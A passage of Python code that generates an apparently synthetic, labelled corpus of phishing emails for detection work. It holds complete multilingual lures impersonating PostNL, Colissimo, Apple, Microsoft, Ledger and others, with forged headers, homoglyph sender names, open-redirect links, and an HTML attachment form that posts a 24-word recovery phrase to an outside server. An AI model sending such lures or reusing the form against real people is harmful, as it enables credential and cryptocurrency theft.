        ("Nieuwe bezorgdatum kiezen", link),
        "PostNL &middot; Dit bericht is automatisch verzonden.")
    head = kit_head(n, t, "mail.postnl-bezorging.net", "postnl-bezorging.net", rcpt, "PostNL", sender,
                    "Uw pakket kon niet worden bezorgd - actie vereist", "Europe/Amsterdam")
    add(Msg(n, "phishing",
            "Dutch PostNL redelivery-fee lure (€ 1,95) to a personal domain on Proton from a PostNL lookalike .net domain; "
            "link to a postnl subdomain on a .cyou domain",
            rcpt, t, "80.66.88.201", "mail.postnl-bezorging.net", "mail.postnl-bezorging.net", sender, "pass",
            [("postnl-bezorging.net", "default", "pass")], "none", head, alt(n, html2text(html), html), ctry="RU", score=1,
            lang="nl"))


def p_colissimo_sendgrid() -> None:
    n = "b9-colissimo-sendgrid"
    t = at("2024-04-23 07:12:45")
    rcpt = "p.garnier@free.fr"
    uid = 31846512
    mailfrom = f"bounces+{uid}-{hx(n, 'sg', 4)}-p.garnier=free.fr@em7321.mnk-studio.com"
    sender = "suivi@colissimo-livraison-fr.com"
    tracker = f"https://u{uid}.ct.sendgrid.net/ls/click?upn=u001.{b64(n, 'upn', 180).replace('+', '-').replace('/', '_')}"
    html = brand_mail("Colissimo", "#ffcc00", [
        "Bonjour,",
        "Votre colis n° <b>6A23481937504</b> n'a pas pu être livré le 22/04/2024 : les frais d'affranchissement n'ont pas été "
        "entièrement réglés.",
        "Pour reprogrammer la livraison, merci de régler les frais restants de <b>1,99 &euro;</b> depuis le suivi de votre colis :",
        f'<a href="{tracker}">https://www.laposte.fr/outils/suivre-vos-envois?code=6A23481937504</a>'],
        ("Reprogrammer ma livraison", tracker),
        "Colissimo &middot; La Poste &middot; Merci de ne pas répondre à ce courriel.")
    html = html.replace("color:#ffffff;font-size:22px", "color:#003a80;font-size:22px")
    html += f'<img src="https://u{uid}.ct.sendgrid.net/wf/open?upn=u001.{b64(n, "open", 120).replace("+", "-").replace("/", "_")}" alt="" width="1" height="1" border="0">\n'
    text = html2text(html)
    head = f"""{dkim(n, "mnk-studio.com", "s1", t, "content-type:from:mime-version:subject:reply-to:to:cc:content-type:from:subject:to")}
{dkim(n, "sendgrid.info", "smtpapi", t, "content-type:from:mime-version:subject:reply-to:to:cc:content-type:from:subject:to", salt="x")}
Received: by filterdrecv-{hx(n, 'fd', 10)}-{an(n, 'fd2', 5).lower()} with SMTP id filterdrecv-{hx(n, 'fd', 10)}-{an(n, 'fd2', 5).lower()}-1-{hx(n, 'fd3', 8).upper()}-{num(n, 'fd4', 10, 99)}
        {t - timedelta(seconds=2):%Y-%m-%d %H:%M:%S}.{num(n, 'us', 100000000, 999999999)} +0000 UTC m=+{num(n, 'm', 100000, 999999)}.{num(n, 'm2', 100000000, 999999999)}
Received: from [127.0.0.1] (unknown)
\tby geopod-ismtpd-{num(n, 'gp', 1, 30)} (SG) with HTTP
\tid {b64(n, 'sgid', 22).replace('+', '-').replace('/', '_')}
\tfor <{rcpt}>;
\t{fmt(t - timedelta(seconds=2)).replace('+0000', '+0000 (UTC)')}
Content-Type: multipart/alternative; boundary={bnd(n, 'java')}
Date: {fmt(t - timedelta(seconds=2))}
From: {who("Colissimo", sender)}
Mime-Version: 1.0
Message-ID: <{b64(n, 'sgmid', 22).replace('+', '-').replace('/', '_')}@geopod-ismtpd-{num(n, 'gp', 1, 30)}>
Subject: {ew("Votre colis est en attente : frais de livraison à régler")}
X-SG-EID: {fold(b64(n, 'eid', 150), 76, ' ')}
X-SG-ID: {fold(b64(n, 'sgidh', 100), 76, ' ')}
To: {rcpt}
X-Entity-ID: {b64(n, 'ent', 22)}=="""
    # SendGrid writes its own Content-Type line above; the MIME tree below carries it, so drop our duplicate.
    head = "\n".join(line for line in head.split("\n") if not line.startswith("Content-Type:"))
    add(Msg(n, "phishing",
            "French Colissimo unpaid-postage lure (1,99 €) to a free.fr mailbox, sent through an abused SendGrid account "
            "(DKIM passes for the account's domain, not for the Colissimo lookalike From domain); the visible laposte.fr "
            "URL text actually links to a SendGrid click tracker",
            rcpt, t, "149.72.123.45", "o1.ptr8213.mnk-studio.com", "o1.ptr8213.mnk-studio.com", mailfrom, "pass",
            [("mnk-studio.com", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "none", head,
            alt(n, text, html, "java"), score=0, lang="fr"))


def p_ezpass_unpaid_toll() -> None:
    n = "b9-ezpass-unpaid-toll"
    t = at("2025-01-16 22:47:18")
    rcpt = "dmckenna@comcast.net"
    sender = "service@ezpass-tollpay.xin"
    link = f"https://e-zpassny.com-tolls.xin/pay?inv=EZ{num(n, 'i', 1000000, 9999999)}"
    html = brand_mail("E-ZPass", "#5c2d91", [
        "Dear Customer,",
        "Our records show an <b>unpaid toll balance of $6.99</b> on your account from a recent trip.",
        "To avoid a late fee of $50.00 and suspension of your E-ZPass tag, please settle the balance within 48 hours."],
        ("Pay Now", link),
        "E-ZPass Customer Service Center &middot; This is an automated message.")
    head = kit_head(n, t, "ezpass-tollpay.xin", "ezpass-tollpay.xin", rcpt, "E-ZPass Customer Service", sender,
                    "Final Notice: Unpaid Toll Balance $6.99", "Asia/Shanghai", sign=None, mailer="")
    add(Msg(n, "phishing",
            "E-ZPass unpaid-toll lure ($6.99, $50 late fee threat) to a Comcast mailbox from a .xin throwaway on a cloud VM; "
            "link to an e-zpassny.com lookalike under a .xin domain",
            rcpt, t, "43.153.77.20", None, "ezpass-tollpay.xin", sender, "pass", [], "none", head,
            alt(n, html2text(html), html), score=0.8))


def p_royalmail_missed() -> None:
    n = "b9-royalmail-missed"
    t = at("2022-03-29 09:03:27")
    rcpt = "tom@oakfield-joinery.com"
    sender = "rm-notify@royalmail-redelivery.com"
    link = f"https://royalmail.redelivery-uk.help/?ref=RM{num(n, 'r', 100000000, 999999999)}GB"
    html = brand_mail("Royal Mail", "#da202a", [
        "Dear Customer,",
        "We tried to deliver your parcel today but nobody was available to sign for it. An item is being held at your local "
        "delivery office.",
        "A redelivery fee of <b>&pound;1.45</b> is outstanding. To choose a new delivery date, please pay the fee online. "
        "Items not rescheduled within 5 days will be returned to the sender."],
        ("Reschedule delivery", link),
        "Royal Mail Group Ltd &middot; This is an automatic notification.")
    head = kit_head(n, t, "mail.royalmail-redelivery.com", "royalmail-redelivery.com", rcpt, "Royal Mail", sender,
                    "We missed you - Redelivery fee of £1.45 outstanding", "Europe/London")
    add(Msg(n, "phishing",
            "Royal Mail 'we missed you' redelivery-fee lure (£1.45) to a small business on Google Workspace from a lookalike "
            "domain; link to a royalmail subdomain of a .help domain",
            rcpt, t, "45.141.84.120", "mail.royalmail-redelivery.com", "mail.royalmail-redelivery.com", sender, "pass",
            [("royalmail-redelivery.com", "default", "pass")], "none", head, alt(n, html2text(html), html)))


def p_netflix_image_only() -> None:
    n = "b9-netflix-image-only"
    t = at("2023-12-05 20:33:51")
    rcpt = "sarah.whitlock84@gmail.com"
    sender = "reservas@pousada-marazul.com.br"
    link = f"https://netflix-billing-update.click/account/payment?sid={hx(n, 's', 24)}"
    image = banner_png([("Your payment was declined", 30, (20, 20, 20)), ("", 10, (0, 0, 0)),
                        ("Hi, we're having some trouble with your current billing", 19, (60, 60, 60)),
                        ("information. Please update your payment details within", 19, (60, 60, 60)),
                        ("48 hours to keep enjoying Netflix without interruption.", 19, (60, 60, 60))],
                       (600, 400), button=("UPDATE ACCOUNT", (229, 9, 20)), header=("NETFLIX", (0, 0, 0)), fmt_="JPEG")
    cid = f"{hx(n, 'cid', 16)}@pousada-marazul.com.br"
    html = (f'<html><body style="margin:0"><center><a href="{link}"><img src="cid:{cid}" width="600" height="400" '
            f'border="0" alt=""></a></center></body></html>\n')
    body = related(n, [html_only(html), inline_img("image/jpeg", "nf.jpg", image, cid)], "php", 0)
    head = f"""{dkim(n, "pousada-marazul.com.br", "default", t, "Content-Type:MIME-Version:Message-ID:Subject:To:From:Date")}
{r_exim_auth(n, "br-cp41.hostnetbr.net", "185.225.73.22", sender, rcpt, t - timedelta(seconds=2), "America/Sao_Paulo")}
Date: {fmt(t - timedelta(seconds=3), "America/Sao_Paulo")}
To: {rcpt}
From: {who("Netflix", sender)}
Subject: Your payment was declined - update required
Message-ID: {phpmailer_mid(n, "pousada-marazul.com.br")}
X-Mailer: PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    add(Msg(n, "phishing",
            "Image-only Netflix 'payment declined' lure: the HTML body is a single inline JPEG of the notice wrapped in a "
            "link to a .click domain, sent as 'Netflix' from a compromised Brazilian guesthouse's cPanel mailbox",
            rcpt, t, "177.70.22.164", "br-cp41.hostnetbr.net", "br-cp41.hostnetbr.net", sender, "pass",
            [("pousada-marazul.com.br", "default", "pass")], "none", head, body))


def p_disneyplus_onmicrosoft() -> None:
    n = "b9-disneyplus-onmicrosoft"
    t = at("2024-06-18 18:22:07")
    rcpt = "claire@famille-lebreton.fr"
    tenant = "Hkq3vxW"
    sender = f"admin@{tenant}.onmicrosoft.com"
    link = "https://disneyplus-fr.abonnement-renouveler.shop/compte/paiement"
    html = brand_mail("Disney+", "#0e0b5e", [
        "Bonjour,",
        "Nous n'avons pas pu traiter le paiement de votre abonnement Disney+ pour le mois en cours.",
        "<b>Votre abonnement a été suspendu.</b> Pour continuer à regarder vos films et séries préférés, mettez à jour "
        "vos informations de paiement sous 24 heures."],
        ("Mettre à jour le paiement", link),
        "Disney+ &middot; The Walt Disney Company (France) SAS.")
    head = f"""{dkim(n, f"{tenant}.onmicrosoft.com", f"selector1-{tenant}-onmicrosoft-com", t, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")}
{r_m365_out(n, "PH7PR17", "namprd17", t - timedelta(seconds=2))}
From: {who("Disney+", sender)}
To: {who("", sender)}
Subject: {ew("Votre abonnement Disney+ a été suspendu")}
Thread-Topic: {ew("Votre abonnement Disney+ a été suspendu")}
Thread-Index: {b64(n, 'thi', 30)}==
Date: {fmt(t - timedelta(seconds=3))}
Message-ID: {outlook_mid(n, "PH7PR17", "namprd17")}
Accept-Language: en-US
Content-Language: fr-FR
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    add(Msg(n, "phishing",
            "French Disney+ 'subscription suspended' lure sent from a throwaway Microsoft 365 trial tenant "
            "(admin@<random>.onmicrosoft.com, authentication passes), recipient in Bcc; link to a .shop payment page",
            rcpt, t, "40.107.93.44", "mail-dm6nam10on2044.outbound.protection.outlook.com",
            "NAM10-DM6-obe.outbound.protection.outlook.com", sender, "pass",
            [(f"{tenant}.onmicrosoft.com", f"selector1-{tenant}-onmicrosoft-com", "pass")], "pass", head,
            alt(n, html2text(html), html, "outlook"), score=6, lang="fr"))


def p_spotify_pago_homoglyph() -> None:
    n = "b9-spotify-pago-homoglyph"
    t = at("2025-10-08 11:15:40")
    rcpt = "lucia.romero.v@gmail.com"
    sender = "no-reply@spotify-premium-es.com"
    link = f"https://spotify-pago.es-cuenta.top/es/account/?c={hx(n, 'c', 16)}"
    html = brand_mail("Spotify", "#1db954", [
        "Hola,",
        "No hemos podido procesar el pago de tu suscripción <b>Spotify Premium</b>. Tu banco ha rechazado el cargo.",
        "Para evitar la cancelación de tu plan y la pérdida de tus listas de reproducción, actualiza tu método de pago "
        "en un plazo de 48 horas."],
        ("Actualizar método de pago", link),
        "Spotify AB, Regeringsgatan 19, 111 53 Estocolmo, Suecia")
    head = kit_head(n, t, "mail.spotify-premium-es.com", "spotify-premium-es.com", rcpt, "Spot\u0456fy", sender,
                    "Problema con tu pago - acción necesaria", "Europe/Madrid")
    add(Msg(n, "phishing",
            "Spanish Spotify 'payment failed' lure whose display name spells 'Spotіfy' with a Cyrillic і; sent from a lookalike "
            "domain, link to a .top payment page",
            rcpt, t, "141.98.10.77", "mail.spotify-premium-es.com", "mail.spotify-premium-es.com", sender, "pass",
            [("spotify-premium-es.com", "default", "pass")], "none", head, alt(n, html2text(html), html), ctry="LT"))


def p_icloud_storage_full() -> None:
    n = "b9-icloud-storage-full"
    t = at("2024-08-27 13:51:12")
    rcpt = "sarah.whitlock84@gmail.com"
    sender = "notice@cloudrenew-alerts.sbs"
    link = f"https://storage.googleapis.com/icloudfull-{num(n, 'b', 1000, 9999)}/index.html#{hx(n, 'f', 20)}"
    html = brand_mail("iCloud", "#3693f3", [
        "Your iCloud storage is full.",
        "Dear user, your iCloud storage has reached its limit. <b>Your photos and videos will be deleted</b> on 29 August "
        "2024 unless you take action.",
        "As part of our loyalty programme you can get <b>50 GB of additional storage free of charge</b> today. "
        "Only the shipping fee of your payment card check applies."],
        ("Get 50 GB free", link),
        "Unsubscribe &middot; 1042 Pinecrest Rd, Dover, DE 19901",
        font="-apple-system,Helvetica,Arial,sans-serif")
    head = kit_head(n, t, "mta7.cloudrenew-alerts.sbs", "cloudrenew-alerts.sbs", rcpt, "iCloud", sender,
                    "Your iCloud storage is full - photos will be deleted", "America/New_York", mailer="")
    add(Msg(n, "phishing",
            "iCloud 'storage full, photos will be deleted, get 50 GB free' lure from a .sbs domain; the link is a page on a "
            "Google Cloud Storage bucket that leads to a card-harvesting 'loyalty' form",
            rcpt, t, "91.243.44.201", "mta7.cloudrenew-alerts.sbs", "mta7.cloudrenew-alerts.sbs", sender, "pass",
            [("cloudrenew-alerts.sbs", "default", "pass")], "none", head, alt(n, html2text(html), html), ctry="RU"))


def p_appleid_homoglyph_de() -> None:
    n = "b9-appleid-homoglyph-de"
    t = at("2022-05-17 04:26:38")
    rcpt = "k.schmitt@t-online.de"
    sender = "no-reply@id-apple-sicherheit.de"
    idn = "\u0430\u0440\u0440le-id-support.com"
    link = f"https://{idn.encode('idna').decode()}/de/signin?sid={hx(n, 's', 12)}"
    html = brand_mail("\uf8ff Apple ID", "#1d1d1f", [
        "Sehr geehrter Kunde,",
        "Ihre Apple-ID wurde aus Sicherheitsgründen <b>gesperrt</b>, da ein ungewöhnlicher Anmeldeversuch von einem "
        "unbekannten Gerät festgestellt wurde.",
        "Um Ihre Apple-ID zu entsperren, bestätigen Sie bitte Ihre Identität. Andernfalls wird Ihr Konto innerhalb von "
        "24 Stunden dauerhaft deaktiviert."],
        ("Jetzt entsperren", link),
        "Apple Distribution International Ltd. &middot; Hollyhill Industrial Estate, Cork, Irland")
    head = kit_head(n, t, "mail.id-apple-sicherheit.de", "id-apple-sicherheit.de", rcpt,
                    "\u0410\u0440\u0440le Support", sender, "Ihre Apple-ID wurde aus Sicherheitsgründen gesperrt",
                    "Europe/Berlin", sign=None)
    add(Msg(n, "phishing",
            "German Apple ID 'account locked' lure; display name 'Аррle Support' uses Cyrillic А/р, and the link goes to a "
            "punycode (xn--) domain spelling аррle with Cyrillic letters",
            rcpt, t, "79.137.202.15", None, "mail.id-apple-sicherheit.de", sender, "softfail", [], "none", head,
            alt(n, html2text(html), html), ctry="DE", lang="de"))


def p_m365_signin_openredirect() -> None:
    n = "b9-m365-signin-openredirect"
    t = at("2024-01-23 10:07:45")
    rcpt = "j.patel@ashgrove.ac.uk"
    sender = "no-reply@msonline-securityalert.com"
    target = f"https://ms365-account-verify.workers.dev/?u={rcpt}"
    link = f"https://www.google.com/url?q={target}&sa=D&sntz=1&usg=AOvVaw{an(n, 'usg', 22)}"
    html = f"""<html><body style="font-family:'Segoe UI',Tahoma,sans-serif;font-size:14px;color:#2a2a2a">
<p style="font-size:17px;color:#2672ec">Microsoft account</p>
<p style="font-size:40px;color:#2672ec;margin:0">Unusual sign-in activity</p>
<p>We detected something unusual about a recent sign-in to the Microsoft account <a href="mailto:{rcpt}">{rcpt}</a>.</p>
<p><b>Sign-in details</b><br>Country/region: Russia<br>IP address: 95.24.181.77<br>Date: 23/01/2024 05:41 (GMT)<br>Platform: Windows 10<br>Browser: Firefox</p>
<p>If this wasn't you, please review your recent activity and secure your account. If you do not verify within 12 hours your mailbox will be blocked.</p>
<table><tr><td style="background:#2672ec;padding:6px 20px"><a href="{link}" style="color:#fff;text-decoration:none">Review recent activity</a></td></tr></table>
<p>Thanks,<br>The Microsoft account team</p>
</body></html>
"""
    head = kit_head(n, t, "mail.msonline-securityalert.com", "msonline-securityalert.com", rcpt, "Microsoft 365 Security",
                    sender, "Unusual sign-in activity detected on your account", mailer="PHPMailer 6.9.1")
    add(Msg(n, "phishing",
            "Microsoft 'unusual sign-in activity' lure to a university mailbox from a lookalike domain; 'Review recent activity' "
            "goes through Google's /url open redirect to a Cloudflare workers.dev page with the victim's address",
            rcpt, t, "194.169.175.42", "mail.msonline-securityalert.com", "mail.msonline-securityalert.com", sender, "pass",
            [("msonline-securityalert.com", "default", "pass")], "none", head, alt(n, html2text(html), html), ctry="GB"))


def p_docusign_lookalike() -> None:
    n = "b9-docusign-lookalike"
    t = at("2023-02-14 15:30:02")
    rcpt = "accounts@harrowfield-dental.co.uk"
    sender = "dse@docusign-esign.review"
    env = guid(n, "env").upper()
    link = f"https://harrowfield-dental.docusign-esign.review/Signing/?a={env}&u={rcpt}"
    html = f"""<html><body style="background:#eaeaea;font-family:Helvetica,Arial,sans-serif;font-size:15px">
<table width="640" align="center" style="background:#fff"><tr><td style="padding:24px">
<p style="font-size:22px;font-weight:bold">Docu<span style="color:#ffcc22">Sign</span></p>
<table width="100%" style="background:#1e4ca1;color:#fff"><tr><td style="padding:30px;text-align:center">
<p style="font-size:18px">Accounts Department sent you a document to review and sign.</p>
<a href="{link}" style="background:#ffc423;color:#333;padding:12px 24px;text-decoration:none;font-weight:bold">REVIEW DOCUMENT</a>
</td></tr></table>
<p><b>Accounts Department</b><br>accounts@harrowfield-dental.co.uk</p>
<p>Please review and complete: <b>Q1 2023 Payroll Adjustment - Harrowfield Dental.pdf</b></p>
<p style="font-size:11px;color:#666">Do Not Share This Email: This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.<br>
Envelope ID: {env}</p>
</td></tr></table></body></html>
"""
    head = kit_head(n, t, "mta1.docusign-esign.review", "docusign-esign.review", rcpt, "Accounts Department via DocuSign",
                    sender, "Complete with DocuSign: Q1 2023 Payroll Adjustment - Harrowfield Dental.pdf", sign="ds1")
    add(Msg(n, "phishing",
            "Fake DocuSign 'payroll adjustment' envelope claiming to come from the recipient's own accounts department, sent "
            "from a docusign lookalike .review domain; the document link is a subdomain named after the victim's company",
            rcpt, t, "185.117.90.23", "mta1.docusign-esign.review", "mta1.docusign-esign.review", sender, "pass",
            [("docusign-esign.review", "ds1", "pass")], "none", head, alt(n, html2text(html), html), ctry="NL"))


def p_metamask_kyc() -> None:
    n = "b9-metamask-kyc"
    t = at("2023-06-27 16:44:20")
    rcpt = "m.reyes@reyes-lab.dev"
    sender = "support@metamask-verification.io"
    link = f"https://metamask-wallet-verify.live/restore?ref={hx(n, 'r', 10)}"
    html = brand_mail("&#129418; METAMASK", "#f6851b", [
        "Dear MetaMask user,",
        "Under new regulatory requirements, all wallets must complete a one-time <b>KYC verification</b> before "
        "<b>30 June 2023</b>. Unverified wallets will be restricted and assets may become inaccessible.",
        "To verify, open the verification portal and enter your <b>12-word Secret Recovery Phrase</b> to confirm "
        "ownership of your wallet. The process takes less than 2 minutes."],
        ("Verify my wallet", link),
        "MetaMask &middot; ConsenSys Software Inc. &middot; Ref: KYC-2023-88142")
    head = kit_head(n, t, "mail.metamask-verification.io", "metamask-verification.io", rcpt, "MetaMask", sender,
                    "Action required: wallet verification (KYC) before 30 June", mailer="")
    add(Msg(n, "phishing",
            "MetaMask 'mandatory KYC' lure to a Proton-hosted personal domain asking the victim to enter the 12-word Secret "
            "Recovery Phrase on a .live site, from a metamask lookalike .io domain",
            rcpt, t, "89.117.23.8", "mail.metamask-verification.io", "mail.metamask-verification.io", sender, "pass",
            [("metamask-verification.io", "default", "pass")], "none", head, alt(n, html2text(html), html), ctry="LT",
            score=1))


def p_ledger_recovery_html() -> None:
    n = "b9-ledger-recovery-html"
    t = at("2025-05-20 06:58:33")
    rcpt = "p.garnier@free.fr"
    sender = "securite@ledger-notifications.fr"
    inputs = "\n".join(f'<input name="w{i}" placeholder="{i}." required style="width:110px;margin:4px;padding:6px">'
                       for i in range(1, 25))
    page = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Ledger Live - Vérification</title></head>
<body style="font-family:Inter,Arial,sans-serif;background:#131415;color:#fff;text-align:center">
<h2>Ledger Live &middot; Synchronisation de sécurité</h2>
<p>Saisissez les 24 mots de votre phrase de récupération pour resynchroniser votre Ledger Nano.</p>
<form method="POST" action="https://ledger-sync.fr-secure.online/api/restore.php">
{inputs}
<input type="hidden" name="mail" value="{rcpt}"><br>
<button type="submit" style="background:#bbb0ff;border:0;padding:12px 40px;margin-top:14px">Valider</button>
</form></body></html>
"""
    html = brand_mail("LEDGER", "#000000", [
        "Cher client,",
        "Suite à un incident de sécurité affectant notre infrastructure, certains appareils Ledger Nano doivent être "
        "resynchronisés afin de protéger vos actifs.",
        "Ouvrez le fichier joint <b>Ledger_Verification.html</b> et suivez les instructions. Sans vérification sous 48 heures, "
        "vos fonds pourraient être exposés."],
        None, "Ledger SAS &middot; 1 rue du Mail, 75002 Paris")
    body = mixed(n, [alt(n, html2text(html), html, "php", 0), att("text/html", "Ledger_Verification.html", page.encode())])
    head = kit_head(n, t, "mail.ledger-notifications.fr", "ledger-notifications.fr", rcpt, "Ledger", sender,
                    "Incident de sécurité : vérification obligatoire de votre Ledger", "Europe/Paris")
    add(Msg(n, "phishing",
            "French Ledger 'security incident' seed-phrase theft: the HTML attachment is a form with 24 word fields posting "
            "the recovery phrase to a .online server; sender is a Ledger lookalike .fr domain",
            rcpt, t, "38.180.64.11", "mail.ledger-notifications.fr", "mail.ledger-notifications.fr", sender, "pass",
            [("ledger-notifications.fr", "default", "pass")], "none", head, body, score=2, lang="fr"))


def p_facebook_copyright() -> None:
    n = "b9-facebook-copyright"
    t = at("2023-10-31 02:14:55")
    rcpt = "tom@oakfield-joinery.com"
    sender = "metaprosupport.case8812@gmail.com"
    case = num(n, "case", 10 ** 15, 10 ** 16 - 1)
    link = f"https://meta-appeal-center.vercel.app/case/{case}"
    text = f"""Dear Oakfield Joinery,

We have received multiple reports that your page violates our copyright and intellectual property policies. As a result, your page has been scheduled for permanent deletion within 24 hours.

If you believe this decision is a mistake, you can submit an appeal through the link below:

{link}

Case number: #{case}

If we do not receive your appeal, your page and associated advertising account will be removed permanently.

Thank you,
Meta Pro Support Team
Meta Platforms, Inc. 1 Hacker Way, Menlo Park, CA 94025
"""
    html = "<div dir=\"ltr\">" + "".join(
        f"<div>{line}</div>" if line else "<div><br></div>" for line in text.replace(link, f'<a href="{link}">{link}</a>').split("\n")) + "</div>\n"
    head = f"""{gmail_sender_head(n, t)}
MIME-Version: 1.0
From: {who("Meta for Business", sender)}
Date: {fmt(t - timedelta(seconds=3), "Asia/Ho_Chi_Minh")}
Message-ID: {gmail_mid(n)}
Subject: Your page Oakfield Joinery has been scheduled for deletion
To: {rcpt}"""
    add(Msg(n, "phishing",
            "Facebook page 'copyright violation, deletion in 24 hours' lure to a small business from a free Gmail account "
            "posing as 'Meta for Business'; appeal link to a vercel.app page",
            rcpt, t, "209.85.220.41", "mail-sor-f41.google.com", "mail-sor-f41.google.com", sender, "pass",
            [("gmail.com", gsel(t), "pass")], "pass", head, alt(n, text, html, "gmail")))


def p_instagram_copyright_it() -> None:
    n = "b9-instagram-copyright-it"
    t = at("2024-07-09 13:36:21")
    rcpt = "info@ferramenta-gallo.it"
    sender = "no-reply@mail-instagram-support.com"
    link = "https://instagram-copyright-appeal.netlify.app/?user=ferramentagallo"
    html = brand_mail("Instagram", "#c13584", [
        "Ciao ferramentagallo,",
        "abbiamo ricevuto una segnalazione di violazione del copyright relativa a uno dei tuoi post recenti.",
        "Se ritieni che la segnalazione sia errata, devi compilare il modulo di ricorso entro <b>24 ore</b>. In caso "
        "contrario il tuo account verrà disattivato in modo permanente."],
        ("Presenta ricorso", link),
        "&copy; Instagram from Meta &middot; Meta Platforms, Inc., 1601 Willow Road, Menlo Park, CA 94025")
    head = kit_head(n, t, "mail.mail-instagram-support.com", "mail-instagram-support.com", rcpt, "Instagram", sender,
                    "Avviso di violazione del copyright sul tuo account", "Europe/Rome", sign=None)
    add(Msg(n, "phishing",
            "Italian Instagram 'copyright infringement, account deleted in 24 hours' lure to a shop on cPanel from a lookalike "
            "domain with no DKIM; appeal link to a netlify.app page",
            rcpt, t, "176.97.210.118", "mail.mail-instagram-support.com", "mail.mail-instagram-support.com", sender, "pass",
            [], "none", head, alt(n, html2text(html), html), ctry="PL", score=3.1, lang="it"))


def p_booking_guest_complaint() -> None:
    n = "b9-booking-guest-complaint"
    t = at("2023-12-12 21:19:42")
    rcpt = "reservations@hotel-zeezicht.nl"
    sender = "partner-notification@booking-partnerhub.com"
    res = num(n, "res", 4000000000, 4999999999)
    link = f"https://admin.booking.com.hotel-extranet.help/hotel/hoteladmin/?res={res}"
    html = brand_mail("Booking.com", "#003580", [
        "Dear Partner,",
        f"A guest has submitted a serious complaint about reservation <b>{res}</b> (arrival 10 December 2023), "
        "reporting hygiene issues in the room and requesting a full refund.",
        "According to our policy you must respond within <b>24 hours</b> through the Extranet, otherwise your property "
        "will be temporarily hidden from search results and the refund will be charged to your account."],
        ("Respond to the guest", link),
        "Booking.com B.V., Herengracht 597, 1017 CE Amsterdam, the Netherlands")
    head = kit_head(n, t, "mail.booking-partnerhub.com", "booking-partnerhub.com", rcpt, "Booking.com Partner Hub", sender,
                    f"Guest complaint - reservation {res} - response required", sign="bk1")
    add(Msg(n, "phishing",
            "Booking.com partner lure to a Dutch hotel on Microsoft 365: a 'serious guest complaint' with a 24-hour deadline, "
            "from a lookalike domain; link to admin.booking.com as a subdomain of a .help domain (extranet credential theft)",
            rcpt, t, "45.88.186.34", "mail.booking-partnerhub.com", "mail.booking-partnerhub.com", sender, "pass",
            [("booking-partnerhub.com", "bk1", "pass")], "none", head, alt(n, html2text(html), html), ctry="NL"))


def p_booking_huesped_es() -> None:
    n = "b9-booking-huesped-es"
    t = at("2024-02-06 22:41:09")
    rcpt = "reservas@casarural-elolivar.es"
    sender = "laura.gimenez.viajes88@gmail.com"
    link = f"https://fotos-reserva.booking-guest.click/album/{hx(n, 'a', 12)}"
    text = f"""Hola, buenas noches.

Me alojé en su casa rural el fin de semana pasado (reserva de Booking a nombre de Laura Giménez). Lamentablemente encontré cucarachas en la habitación y manchas en las sábanas, tengo fotos y un vídeo.

Antes de dejar la reseña en Booking quería darles la oportunidad de verlo. Las fotos están aquí:
{link}

(hay que iniciar sesión con el correo del alojamiento para verlas)

Espero su respuesta.
Laura
"""
    html = "<div dir=\"ltr\">" + "".join(
        f"<div>{line}</div>" if line else "<div><br></div>"
        for line in text.replace(link, f'<a href="{link}">{link}</a>').split("\n")) + "</div>\n"
    head = f"""{gmail_sender_head(n, t)}
MIME-Version: 1.0
From: {who("Laura Giménez", sender)}
Date: {fmt(t - timedelta(seconds=3), "Europe/Madrid")}
Message-ID: {gmail_mid(n)}
Subject: {ew("Queja sobre mi estancia - fotos")}
To: {rcpt}"""
    add(Msg(n, "phishing",
            "Spanish Booking.com 'guest complaint with photos' lure to a rural guesthouse on cPanel from a free Gmail account; "
            "the 'photos' link is a .click page that asks for the property's mailbox login",
            rcpt, t, "209.85.218.54", "mail-ej1-f54.google.com", "mail-ej1-f54.google.com", sender, "pass",
            [("gmail.com", gsel(t), "pass")], "pass", head, alt(n, text, html, "gmail"), dmarc_p="none", score=0.4,
            lang="es"))


def p_orange_messagerie_pleine() -> None:
    n = "b9-orange-messagerie-pleine"
    t = at("2022-04-12 08:29:17")
    rcpt = "jm.lefevre@orange.fr"
    sender = "webmaster@camping-les-pins-dores.fr"
    link = "https://messagerie-orange-fr.godaddysites.com/"
    html = brand_mail("orange&trade;", "#ff7900", [
        "Cher(e) client(e),",
        f"Votre boîte de réception <b>{rcpt}</b> a atteint 99 % de son espace de stockage.",
        "Les nouveaux messages ne pourront plus être reçus. Pour éviter la suspension de votre messagerie, veuillez "
        "valider votre compte afin de bénéficier gratuitement de 5 Go supplémentaires."],
        ("Valider mon compte", link),
        "Orange Messagerie &middot; Service client")
    html = html.replace("background:#ff7900;color:#ffffff;font-size:22px", "background:#000000;color:#ff7900;font-size:22px")
    head = kit_head(n, t, "cluster030.hosting.ovh.net", "camping-les-pins-dores.fr", rcpt, "Messagerie Orange", sender,
                    "Votre boîte de réception est pleine", "Europe/Paris", sign=None, mailer="", uid=1017)
    add(Msg(n, "phishing",
            "French 'Orange mailbox full' lure to an orange.fr address, mailed by a PHP script on OVH shared hosting under a "
            "campsite's address; link to a GoDaddy site-builder page imitating the Orange webmail login",
            rcpt, t, "213.186.33.40", "cluster030.hosting.ovh.net", "cluster030.hosting.ovh.net", sender, "pass", [], "none",
            head, alt(n, html2text(html), html), ctry="FR", score=6, lang="fr"))


def p_amazon_konto_de() -> None:
    n = "b9-amazon-konto-de"
    t = at("2026-02-10 17:03:56")
    rcpt = "jens@familie-krueger.de"
    sender = "biuro@kowalczyk-transport.pl"
    link = f"https://amazon.de-kundenkonto-verifizierung.top/ap/signin?ref={hx(n, 'r', 14)}"
    html = brand_mail("amazon.de", "#232f3e", [
        "Hallo,",
        "wir haben ungewöhnliche Aktivitäten in Ihrem Amazon-Konto festgestellt und es vorübergehend eingeschränkt. "
        "Offene Bestellungen und Abonnements wurden angehalten.",
        "Bitte bestätigen Sie Ihre Kontoinformationen innerhalb von 24 Stunden, um die Einschränkung aufzuheben."],
        ("Konto bestätigen", link),
        "Amazon.de &middot; Amazon EU S.à r.l., 38 avenue John F. Kennedy, L-1855 Luxemburg")
    head = f"""{dkim(n, "kowalczyk-transport.pl", "x", t)}
Received: from [193.32.162.70] (unknown [193.32.162.70])
\t(Authenticated sender: biuro@kowalczyk-transport.pl)
